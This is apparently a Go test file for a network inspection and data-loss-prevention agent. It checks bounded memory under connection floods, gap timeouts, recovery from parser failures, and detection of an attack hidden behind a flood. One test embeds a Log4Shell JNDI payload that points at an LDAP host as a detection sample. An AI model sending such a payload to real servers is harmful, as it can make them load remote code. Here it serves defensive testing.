// SPDX-License-Identifier: Apache-2.0

package content

import (
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/agent/dlp"
	"github.com/holdfast-project/holdfast/agent/inspect"
	"github.com/holdfast-project/holdfast/agent/wire"
)

// heap is what the process has in use, garbage apart.
func heap() int64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return int64(m.HeapAlloc)
}

// innocent is a connection of another process of the container.
func innocent() wire.Content {
	c := piece(wire.ContentOut)
	c.Cookie, c.Head.Tgid, c.Head.Start = 4, 30, 3000
	return c
}

// TestFloods has a container open tens of thousands of connections that do not end, in ways that cost memory behind the parsers, while
// another process sends what is to be found: it is, memory stays bounded, and what was given up is counted by its cause.
func TestFloods(t *testing.T) {
	text := strings.Repeat("some words of a text that goes on ", 90)
	for name, flood := range map[string]struct {
		count  int
		flags  wire.ContentFlag
		text   string
		causes []string
	}{
		"half open": {50_000, wire.ContentOut, "", []string{"flow_half_open_evicted", "owner_forgotten"}},
		"bodies sent": {20_000, wire.ContentOut, "POST / HTTP/1.1\r\nHost: sink.example\r\nContent-Length: 100000\r\n\r\n" + text,
			[]string{"flow_evicted", "owner_forgotten", "text_evicted"}},
		"requests served": {20_000, wire.ContentInbound, "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 100000\r\n\r\n" + text,
			[]string{"flow_evicted", "owner_forgotten", "text_apart"}},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRig(t)
			before := heap()
			one := post(cards)
			r.send(innocent(), one[:len(one)-40], 4096)
			for n := range flood.count {
				c := piece(flood.flags)
				c.Cookie, c.Head.Time = uint64(1000+n), 1e9+uint64(n)
				r.Content(&c, []byte(flood.text[:min(len(flood.text), 4096)]))
				if n%1000 == 0 {
					c := innocent()
					c.Sequence += uint32(len(one) - 40)
					r.Content(&c, nil)
				}
			}
			r.Settle(2e9)
			held := heap() - before
			c := innocent()
			c.Sequence += uint32(len(one) - 40)
			r.send(c, one[len(one)-40:], 4096)
			if len(r.found) != 1 || r.found[0].Process != (dlp.Process{PID: 30, Start: 3000}) || r.found[0].Distinct != 5 {
				t.Errorf("%d findings: %+v", len(r.found), r.found)
			}
			st := r.Stats()
			// Inspection has 32 MiB, its sink 8 MiB of texts that wait and the state of 4,096 texts, connections 4 MiB.
			if most := int64(96 << 20); held > most || st.Memory > 32<<20 {
				t.Errorf("%d KiB are held, at most %d; %d KiB charged", held>>10, most>>10, st.Memory>>10)
			}
			for _, cause := range flood.causes {
				if st.GivenUp[cause] == 0 {
					t.Errorf("%s is not counted: %v", cause, st.GivenUp)
				}
			}
			t.Logf("%d KiB held, %d KiB charged to %d flows, given up %v", held>>10, st.Memory>>10, st.Flows, st.GivenUp)
			r.Settle(2e9 + int64(3*time.Minute))
			if st := r.Stats(); st.Flows != 0 || st.Memory != 0 {
				t.Errorf("after the idle time %d flows, %d bytes", st.Flows, st.Memory)
			}
			runtime.KeepAlive(r)
		})
	}
}

// TestTimePassesWithoutPieces has a segment be missing, and nothing come after it: what waits is looked at once it has waited
// long enough, by the clock of who calls.
func TestTimePassesWithoutPieces(t *testing.T) {
	r := newRig(t)
	text := post("these are " + cards)
	head := len(text) - len(cards) - len("these are ")
	c := piece(wire.ContentOut)
	r.send(c, text[:head], 4096)
	c.Sequence += uint32(head) + 5
	r.send(c, text[head+5:], 4096)
	start := int64(c.Head.Time)
	r.Settle(start + int64(100*time.Millisecond))
	if len(r.found) != 0 {
		t.Fatalf("%d findings before the gap is given up", len(r.found))
	}
	r.Settle(start + int64(time.Second))
	if len(r.found) != 1 || r.Stats().GivenUp["gap_bytes"] != 5 {
		t.Errorf("%d findings, given up %v", len(r.found), r.Stats().GivenUp)
	}
	r.Settle(start + int64(3*time.Minute))
	if st := r.Stats(); st.Flows != 0 || st.Memory != 0 {
		t.Errorf("%d idle flows are followed", st.Flows)
	}
}

// TestAttacksBehindAFlood fills the room of texts that wait with requests that do not end: an attack in another is found.
func TestAttacksBehindAFlood(t *testing.T) {
	r := newRig(t)
	for n := range 200 {
		c := piece(wire.ContentInbound)
		c.Cookie = uint64(1000 + n)
		r.send(c, "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 1000000\r\n\r\n"+strings.Repeat("some words ", 6000), 4096)
	}
	c := piece(wire.ContentInbound)
	body := `{"q":"x","name":"${jndi:ldap://203.0.113.66/a}"}`
	r.send(c, fmt.Sprintf("POST /search HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s", len(body), body), 4096)
	if len(r.found) == 0 || r.found[0].Class != "log4shell" || r.found[0].Part != "body" && r.found[0].Part != "value" {
		t.Errorf("%d findings: %+v", len(r.found), r.found)
	}
	r.Settle(2e9)
	if st := r.Stats(); st.GivenUp["text_apart"] == 0 {
		t.Errorf("given up %v", st.GivenUp)
	}
	r.inspector.Closed(inspect.Key{Cookie: 5})
}

// TestFailuresOfParsers has what is asked while a text is read fail: the agent goes on, with what comes from then on, and it is
// counted and told.
func TestFailuresOfParsers(t *testing.T) {
	r := newRig(t)
	modes, told := r.cfg.Modes, 0
	r.cfg.Modes = func(cgroup uint64) (bool, bool) {
		if cgroup == 13 {
			panic("a fault")
		}
		return modes(cgroup)
	}
	r.cfg.Failed = func(failure any, stack []byte) {
		if failure != "a fault" || !strings.Contains(string(stack), "TestFailuresOfParsers") {
			t.Errorf("%v at %s", failure, stack)
		}
		told++
	}
	for n := range uint64(20) {
		c := piece(wire.ContentOut)
		c.Cookie, c.Head.Origin = 1000+n, 13
		r.send(c, post(cards), 4096)
	}
	r.send(piece(wire.ContentOut), post(cards), 4096)
	if len(r.found) != 1 || told != maxFailures {
		t.Errorf("%d findings, told of %d failures", len(r.found), told)
	}
	r.Settle(2e9)
	if st := r.Stats(); st.GivenUp["failure"] != 20 || st.Flows != 1 {
		t.Errorf("%d flows, given up %v", st.Flows, st.GivenUp)
	}
}
